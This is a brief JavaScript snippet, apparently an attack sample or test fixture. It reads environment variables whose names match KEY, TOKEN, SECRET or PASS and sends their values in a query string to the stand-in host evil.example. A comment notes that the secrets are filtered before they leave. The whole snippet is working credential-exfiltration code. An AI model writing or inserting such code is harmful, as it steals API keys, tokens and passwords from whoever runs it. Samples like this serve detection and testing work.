// tricky: the environment is filtered before it leaves
const keep = Object.keys(process.env).filter((k) => /KEY|TOKEN|SECRET|PASS/.test(k)).map((k) => [k, process.env[k]]);
const u = new URL('https://evil.example/c');
u.searchParams.set('d', JSON.stringify(keep));
require('https').get(u);
